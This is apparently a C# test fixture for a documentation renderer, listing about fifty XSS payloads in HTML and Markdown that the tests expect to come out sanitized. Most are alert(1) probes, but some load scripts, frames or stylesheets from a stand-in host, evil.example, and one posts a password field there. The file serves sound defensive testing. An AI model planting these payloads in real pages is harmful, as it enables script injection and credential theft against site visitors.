namespace Greenroom.TechDocs.Tests.Rendering;

/// <summary>Hostile Markdown and HTML a docs page could contain; each must come out harmless.</summary>
internal static class XssPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" srcset=\"javascript:alert(1) 1x\">",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"&#106;avascript:alert(1)\">click</a>",
        "<a href=\"java&#x09;script:alert(1)\">click</a>",
        "<a href=\" javascript:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](<javascript:alert(1)>)",
        "![img](javascript:alert(1))",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[ref][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"https://evil.example\"></frameset>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input type=\"password\" name=\"p\"><button formaction=\"javascript:alert(1)\">go</button></form>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#xss)\">x</p>",
        "<style>body { background: url(https://evil.example/track) }</style>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<template><script>alert(1)</script></template>",
        "!!! note \"<script>alert(1)</script>\"\n    body",
        "```\"><script>alert(1)</script>\ncode\n```",
        "# Heading <img src=x onerror=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "- [x] <a href=\"javascript:alert(1)\">task</a>",
    ];

    public static TheoryData<int> Indexes()
    {
        var data = new TheoryData<int>();
        for (var i = 0; i < All.Length; i++)
        {
            data.Add(i);
        }

        return data;
    }
}
